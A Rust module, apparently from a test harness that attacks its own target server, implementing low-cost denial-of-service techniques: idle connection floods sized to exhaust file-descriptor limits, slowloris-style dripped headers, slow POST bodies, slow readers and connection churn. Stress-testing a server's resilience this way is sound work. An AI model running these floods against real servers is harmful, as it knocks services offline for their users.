//! Floods of connections that cost their sender next to nothing.

use anyhow::Result;
use tokio::time::{sleep, timeout};

use super::{Attacker, LASTS, drip};
use crate::http2;

/// As many as fit into systemd's default of 1,024 files, nearly, and into the console's limit of connections in all.
const NEARLY_ALL: usize = 1_010;

/// From a hundred addresses.
pub(super) async fn silent(attacker: Attacker) -> Result<()> {
    let _open = attacker.connections(NEARLY_ALL, b"").await;
    sleep(LASTS).await;
    Ok(())
}

/// From few addresses: nine that have 128 each would take all.
pub(super) async fn silent_from_few(attacker: Attacker) -> Result<()> {
    let mut open = Vec::new();
    for number in 0..1_100 {
        let connecting = attacker.target.connect(Some(attacker.address(number % 9)));
        open.extend(timeout(LASTS / 8, connecting).await.ok().and_then(Result::ok));
    }
    sleep(LASTS).await;
    Ok(())
}

/// From one address.
pub(super) async fn idle_http2(attacker: Attacker) -> Result<()> {
    let mut open = Vec::new();
    for _ in 0..NEARLY_ALL {
        open.extend(attacker.connections(1, &http2::preface()).await);
    }
    sleep(LASTS).await;
    Ok(())
}

pub(super) async fn slow_headers(attacker: Attacker) -> Result<()> {
    drip(attacker.connections(300, b"GET / HTTP/1.1\r\nX-A: ").await, b'a').await;
    Ok(())
}

pub(super) async fn slow_bodies(attacker: Attacker) -> Result<()> {
    let head = format!(
        "POST /login HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n",
        attacker.target.address
    );
    drip(attacker.connections(200, head.as_bytes()).await, b' ').await;
    Ok(())
}

/// Each asks for a page a hundred times and reads none of the answers.
pub(super) async fn slow_readers(attacker: Attacker) -> Result<()> {
    let page = format!("GET /login HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.target.address);
    let _open = attacker.connections(200, page.repeat(100).as_bytes()).await;
    sleep(LASTS).await;
    Ok(())
}

pub(super) async fn churn(attacker: Attacker) -> Result<()> {
    for _ in 0..50 {
        drop(attacker.connections(100, b"GET / HTTP/1.1\r\n").await);
    }
    Ok(())
}
